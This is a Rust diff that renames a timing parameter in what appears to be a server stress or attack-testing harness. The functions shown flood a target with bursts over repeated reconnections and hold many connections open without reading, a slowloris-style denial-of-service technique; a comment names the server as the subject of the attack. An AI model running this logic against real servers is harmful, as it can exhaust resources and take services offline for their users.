@@ -35,12 +35,12 @@ impl Flood {
 
     /// Sends until the time is over, over a new connection whenever the server has closed the last one.
     /// Returns the number of operations.
-    pub(super) fn run(&self, target: &Target, until: Instant) -> u64 {
+    pub(super) fn run(&self, target: &Target, deadline: Instant) -> u64 {
         let mut operations = 0;
-        while let Some(mut line) = connected(target, until) {
-            let mut sent = line.push(&self.opening, until);
+        while let Some(mut line) = connected(target, deadline) {
+            let mut sent = line.push(&self.opening, deadline);
             while let Ok(true) = sent {
-                sent = line.push(&self.burst, until);
+                sent = line.push(&self.burst, deadline);
                 operations += if let Ok(true) = sent { self.operations } else { 0 };
             }
         }
@@ -50,23 +50,23 @@ impl Flood {
 
 /// Opens connections, sends octets over each, reads nothing, and keeps them until the time is over. Returns
 /// their number.
-pub(super) fn hold(target: &Target, connections: usize, octets: &[u8], until: Instant) -> u64 {
+pub(super) fn hold(target: &Target, connections: usize, octets: &[u8], deadline: Instant) -> u64 {
     let mut held = Vec::with_capacity(connections);
     while held.len() < connections {
-        let Some(mut line) = connected(target, until) else {
+        let Some(mut line) = connected(target, deadline) else {
             break;
         };
         // A server that closes the connection, or does not read, is the subject of the attack.
-        let _ = line.push_only(octets, until.min(Instant::now() + WAIT * 10));
+        let _ = line.push_only(octets, deadline.min(Instant::now() + WAIT * 10));
         held.push(line);
     }
-    thread::sleep(until.saturating_duration_since(Instant::now()));
+    thread::sleep(deadline.saturating_duration_since(Instant::now()));
     held.len() as u64
 }
 
 /// Connects as soon as the server lets it; `None` when the time is over.
-fn connected(target: &Target, until: Instant) -> Option<Line> {
-    while Instant::now() < until {
+fn connected(target: &Target, deadline: Instant) -> Option<Line> {
+    while Instant::now() < deadline {
         match Line::connect(target, ATTACKER, WAIT) {
             Ok(line) => return Some(line),
             Err(_) => thread::sleep(Duration::from_millis(1)),
